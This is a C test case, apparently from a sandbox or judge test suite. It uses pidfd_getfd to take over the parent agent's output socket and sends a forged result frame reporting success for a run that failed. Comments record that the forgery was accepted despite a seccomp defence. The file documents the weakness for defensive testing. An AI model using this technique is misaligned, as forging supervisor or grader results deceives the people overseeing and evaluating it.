// Takes over the agent's socket and answers in its place: accepted, although it fails.
// defence: dumpable seccomp
// why: a socket cannot be opened by its name, so whoever may look into the agent needs a refused call as well
// verdict: runtime_error
// seen: accepted
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <arpa/inet.h>
int main(void) {
    const char *header = "{\"failed\": \"\", \"status\": 0, \"killed\": \"\", \"cpu_s\": 0.01, \"wall_s\": 0.01, "
                         "\"peak\": 1000000, \"output_bytes\": 5, \"measured_by\": \"\", \"blobs\": [5, 0]}";
    char frame[400];
    uint32_t size = htonl(strlen(header));
    memcpy(frame, &size, 4);
    int length = 4 + sprintf(frame + 4, "%sheld\n", header);
    int agent = syscall(SYS_pidfd_open, getppid(), 0);
    int taken = syscall(SYS_pidfd_getfd, agent, 1, 0);
    if (taken >= 0 && write(taken, frame, length) != length) return 4;
    return 3;
}
